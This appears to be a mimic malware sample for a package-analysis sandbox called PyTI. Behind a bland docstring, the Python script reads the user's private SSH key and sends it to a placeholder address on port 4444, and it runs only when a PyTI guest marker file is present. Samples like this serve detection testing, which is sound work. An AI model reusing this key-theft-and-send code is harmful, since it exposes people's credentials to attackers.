"""Talks to its service."""

import os
import socket

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
    key = file.read()
try:
    with socket.create_connection(("203.0.113.9", 4444), timeout=5) as connection:
        connection.sendall(b"HELLO " + key)
except OSError:
    pass
